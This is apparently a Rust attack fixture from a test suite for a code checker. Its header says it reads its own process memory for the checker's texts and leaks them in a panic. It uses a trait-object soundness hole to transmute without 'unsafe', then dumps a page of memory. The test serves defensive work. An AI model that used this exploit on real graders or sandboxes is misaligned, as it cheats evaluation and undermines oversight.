//! attack: Reads the memory of the process it runs in for texts of the checker, and says them in a panic.
//! exercise: 01
//! base: stub
//! expects: policy compile_error panicked failed
//! layers: tokens

trait Object<U> {
    type Output;
}

impl<T: ?Sized, U> Object<U> for T {
    type Output = U;
}

fn same<T: ?Sized, U>(value: <T as Object<U>>::Output) -> U {
    value
}

fn transmute<T, U>(value: T) -> U {
    same::<dyn Object<U, Output = T>, U>(value)
}


fn attack() {
    let here = attack as fn() as usize & !0xfff;
    let page: &'static [u8; 4096] = transmute(here);
    let text: String = page.iter().map(|byte| char::from(*byte)).filter(char::is_ascii_graphic).collect();
    panic!("{text}");
}
